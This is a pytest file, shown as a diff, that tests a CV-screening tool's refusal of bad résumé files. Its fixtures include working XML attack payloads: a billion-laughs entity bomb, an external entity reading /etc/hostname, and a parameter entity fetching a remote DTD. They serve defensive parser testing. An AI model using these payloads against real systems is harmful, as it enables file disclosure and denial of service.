@@ -1,0 +1,138 @@
+"""Bad and hostile CVs are refused with exit status 2 and one line naming the file, the line and the element."""
+
+from __future__ import annotations
+
+
+import pytest
+from test_cv import FIXTURES, europass_pdf, run
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<Candidate><CandidatePerson><PersonName><GivenName>&lol4;</GivenName></PersonName></CandidatePerson></Candidate>
+"""
+EXTERNAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE Candidate [ <!ENTITY secret SYSTEM "file:///etc/hostname"> ]>
+<Candidate><CandidatePerson><PersonName><GivenName>&secret;</GivenName></PersonName></CandidatePerson></Candidate>
+"""
+PARAMETER_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE Candidate [ <!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote; ]>
+<Candidate/>
+"""
+MALFORMED = (
+    '<?xml version="1.0"?>\n<Candidate>\n  <CandidatePerson>\n    <PersonName>\n  </CandidatePerson>\n</Candidate>\n'
+)
+UNDEFINED_ENTITY = "<Candidate>\n<CandidatePerson>&nbsp;</CandidatePerson>\n</Candidate>\n"
+BAD_DATE = """<Candidate xmlns:eures="http://www.europass_eures.eu/1.0" xmlns:hr="http://www.hr-xml.org/3">
+<CandidateProfile><EmploymentHistory><EmployerHistory><PositionHistory>
+<eures:EmploymentPeriod>
+<eures:StartDate><hr:FormattedDateTime>2019-13</hr:FormattedDateTime></eures:StartDate>
+</eures:EmploymentPeriod>
+</PositionHistory></EmployerHistory></EmploymentHistory></CandidateProfile></Candidate>
+"""
+BAD_LANGUAGE = """<SkillsPassport><LearnerInfo><Skills><Linguistic><ForeignLanguageList>
+<ForeignLanguage><Description><Label>Klingonese</Label></Description><ProficiencyLevel><Listening>B2</Listening></ProficiencyLevel></ForeignLanguage>
+</ForeignLanguageList></Linguistic></Skills></LearnerInfo></SkillsPassport>
+"""
+
+
+@pytest.mark.parametrize(
+    "content,expected",
+    [
+        (BILLION_LAUGHS, ":2: <!DOCTYPE lolz>: a document type declaration is refused"),
+        (EXTERNAL_ENTITY, ":2: <!DOCTYPE Candidate>: a document type declaration is refused"),
+        (PARAMETER_ENTITY, ":2: <!DOCTYPE Candidate>: a document type declaration is refused"),
+        (MALFORMED, ":5:5: in <PersonName>: not well-formed XML (mismatched tag)"),
+        (UNDEFINED_ENTITY, ":2:18: in <CandidatePerson>: not well-formed XML (undefined entity)"),
+        (BAD_DATE, ":4: <FormattedDateTime>: '2019-13' has no month 13"),
+        (BAD_LANGUAGE, ":2: <ForeignLanguage>: unknown language 'Klingonese'"),
+        ("<html><body>a web page</body></html>", ":1: <html>: not a Europass CV"),
+        ("<Candidate>" + "<Skills/>" * 60_001 + "</Candidate>", ":1: <Skills>: more than 50,000 elements"),
+        ("<Candidate>" + "<a>" * 50 + "</a>" * 50 + "</Candidate>", ":1: <a>: nested more than 40 deep"),
+        ("<Candidate><x>" + "a" * 1_000_001 + "</x></Candidate>", ": file is 1,000,031 bytes; the limit is 1,000,000"),
+    ],
+    ids=[
+        "billion-laughs",
+        "external-entity",
+        "parameter-entity",
+        "malformed",
+        "undefined-entity",
+        "bad-date",
+        "unknown-language",
+        "not-europass",
+        "too-many-elements",
+        "too-deep",
+        "oversized",
+    ],
+)
+def test_bad_xml_is_refused_with_one_line_naming_file_and_element(tmp_path, content, expected):
+    path = tmp_path / "cv.xml"
+    path.write_text(content, "utf-8")
+    for command in (["check", "SEC000821"], ["validate"], ["import"]):
+        done = run(*command, str(path))
+        assert done.returncode == 2
+        err = done.stderr.decode()
+        lines = [line for line in err.splitlines() if line.strip()]
+        assert len(lines) == 1, err
+        assert f"{path}{expected}" in lines[0]
+        assert "Traceback" not in err
+
+
+def test_a_hostile_cv_in_a_batch_is_an_error_row_and_the_batch_goes_on(tmp_path):
+    (tmp_path / "a-hostile.xml").write_text(BILLION_LAUGHS, "utf-8")
+    (tmp_path / "b-mira.xml").write_bytes((FIXTURES / "mira-kovac.europass.xml").read_bytes())
+    done = run("screen", "SEC000821", str(tmp_path), "--format", "csv")
+    assert done.returncode == 2
+    out = done.stdout.decode()
+    assert "document type declaration is refused" in out and "Mira Kovač" in out and "eligible" in out
+
+
+def test_a_pdf_without_europass_xml_says_how_to_get_one(tmp_path):
+    path = tmp_path / "cv.pdf"
+    path.write_bytes(europass_pdf(b""))
+    done = run("check", "SEC000821", str(path))
+    assert done.returncode == 2
+    err = done.stderr.decode()
+    assert f"{path}: no Europass XML attached" in err and "download it again as PDF" in err
+
+
+def test_a_pdf_whose_attachment_is_not_europass_is_refused(tmp_path):
+    path = tmp_path / "cv.pdf"
+    path.write_bytes(europass_pdf(b"<invoice><total>3</total></invoice>", name="invoice.xml"))
+    assert "no Europass XML attached" in run("check", "SEC000821", str(path)).stderr.decode()
+
+
+def test_hostile_xml_attached_to_a_pdf_is_refused_too(tmp_path):
+    path = tmp_path / "cv.pdf"
+    path.write_bytes(europass_pdf(EXTERNAL_ENTITY.encode()))
+    done = run("check", "SEC000821", str(path))
+    assert done.returncode == 2
+    assert "(attached XML):2: <!DOCTYPE Candidate>: a document type declaration is refused" in done.stderr.decode()
+
+
+def test_a_broken_pdf_is_one_line(tmp_path):
+    path = tmp_path / "cv.pdf"
+    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 4)
+    done = run("check", "SEC000821", str(path))
+    assert done.returncode == 2
+    err = done.stderr.decode()
+    assert err.count("\n") == 1 and f"{path}: not a readable PDF" in err
+
+
+def test_a_broken_json_resume_names_the_line(tmp_path):
+    path = tmp_path / "resume.json"
+    path.write_text('{"basics": {"name": "A"},\n "work": [,]}', "utf-8")
+    done = run("check", "SEC000821", str(path))
+    assert done.returncode == 2 and f"{path}:2" in done.stderr.decode()
+
+
+def test_a_json_resume_with_a_bad_date_names_the_field(tmp_path):
+    path = tmp_path / "resume.json"
+    path.write_text('{"basics": {"name": "A"}, "work": [{"name": "X", "startDate": "2019-02-30"}]}', "utf-8")
+    done = run("check", "SEC000821", str(path))
+    assert done.returncode == 2
+    assert f"{path}: work[0].startDate: '2019-02-30' is not a day of the calendar" in done.stderr.decode()
